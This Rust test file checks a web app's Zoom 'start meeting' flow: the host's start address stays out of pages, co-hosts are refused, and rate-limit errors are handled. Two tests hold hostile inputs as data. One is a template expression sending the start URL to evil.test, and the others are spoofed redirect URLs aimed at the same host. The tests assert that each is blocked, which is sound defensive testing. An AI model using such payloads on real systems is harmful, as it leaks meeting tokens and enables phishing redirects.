//! Starting a meeting: for its host, by an address that is fetched when the button is pressed and kept nowhere.

use serde_json::json;

use crate::world::{World, changed, open, press, send};

#[tokio::test]
async fn the_host_is_led_to_zoom_and_the_address_is_in_no_page() {
    let mut world = World::new().await;
    let id = world.make(&[]).await;
    let path = format!("/app/zoom/invitations?meeting_id={id}");
    let page = world.browser.get(&path).await.is(200).says("value=\"start\"");
    assert!(!page.body.contains("zak="), "{}", page.body);
    let policy = page.header("content-security-policy").to_owned();
    assert!(policy.contains("https://*.zoom.us"), "{policy}");
    let answer = press(&mut world.browser, &page, &path, "start").await.is(303);
    assert!(
        answer.location().starts_with("https://us05web.zoom.us/s/"),
        "{}",
        answer.location()
    );
    assert!(!answer.body.contains("zak="), "{}", answer.body);
    assert_eq!(answer.header("cache-control"), "no-store");
}

#[tokio::test]
async fn a_co_host_sees_the_invitation_and_no_button_to_start() {
    let mut world = World::new().await;
    let users = world.zoom.users();
    let number = (1..users.len()).find(|number| users[*number].kind == 2 && users[*number].status == "active");
    let number = number.expect("a licensed user");
    let id = world.make(&[("co_hosts", &users[number].email)]).await;
    let mut co_host = world.somebody(number);
    let path = format!("/app/zoom/invitations?meeting_id={id}");
    let page = co_host.get(&path).await.is(200);
    assert!(!page.body.contains("value=\"start\""), "{}", page.body);
    let theirs = open(&mut co_host, "/app/zoom/create-meeting").await;
    let answer = send(&mut co_host, &path, &theirs, "start", &[]).await.is(403);
    assert!(!answer.body.contains("zak="), "{}", answer.body);
}

#[tokio::test]
async fn a_template_that_brings_the_address_elsewhere_is_not_served() {
    let link = "link: { expression: address.start_url }";
    for evil in [
        "link: { expression: \"'https://evil.test/?' ~ address.start_url\" }",
        "link: { expression: \"address.start_url ~ '#'\" }",
        "mail: { body: { expression: address.start_url } }",
    ] {
        let mut world = World::with(&changed("template.yaml", link, evil), false, |_| {}).await;
        let page = world.browser.get("/app/zoom/create-meeting").await.is(500);
        assert!(!page.body.contains("evil.test"), "{}", page.body);
    }
}

#[tokio::test]
async fn after_a_secret_nobody_is_led_to_a_site_that_is_not_the_services_own() {
    let link = "link: { expression: address.start_url }";
    let template = changed("template.yaml", link, "link: { expression: meeting.agenda }");
    let mut world = World::with(&template, false, |_| {}).await;
    for (hour, (agenda, leads)) in (10..).zip([
        ("https://evil.test/", false),
        ("https://us05web.zoom.us.evil.test/", false),
        ("https://us05web.zoom.us@evil.test/", false),
        ("http://us05web.zoom.us/s/1", false),
        ("/sign-in", false),
        ("https://us05web.zoom.us/s/1", true),
    ]) {
        let id = world
            .make(&[("agenda", agenda), ("start.time", &format!("{hour}:00"))])
            .await;
        let path = format!("/app/zoom/invitations?meeting_id={id}");
        let page = world.browser.get(&path).await.is(200);
        let answer = press(&mut world.browser, &page, &path, "start").await;
        assert_eq!(answer.status == 303, leads, "{agenda}: {}", answer.status);
    }
}

#[tokio::test]
async fn a_press_that_the_rate_limit_refuses_says_that_nothing_was_done_and_does_not_load_itself() {
    // What the page itself reads is refused; or only what the button asks for after it.
    for late in [false, true] {
        let mut world = World::new().await;
        let id = world.make(&[]).await;
        let path = format!("/app/zoom/invitations?meeting_id={id}");
        let page = world.browser.get(&path).await.is(200);
        let before = world.sent("GET");
        press(&mut world.browser, &page, &path, "start").await.is(303);
        let reads = world.sent("GET") - before;
        assert!(reads > 1, "{reads}");
        world.order(json!({
            "method": "GET", "skip": if late { reads - 1 } else { 0 }, "times": 1_000, "status": 429,
            "headers": {"X-RateLimit-Type": "QPS", "Retry-After": "60"},
            "body": {"code": 429, "message": "You have reached the maximum per-second rate limit for this API."},
        }));
        let refused = press(&mut world.browser, &page, &path, "start").await.is(429);
        let refused = refused.says("Nothing was sent. Press the button again");
        for other in ["http-equiv=\"refresh\"", "The page comes by itself"] {
            assert!(!refused.body.contains(other), "{other} in {}", refused.body);
        }
    }
}
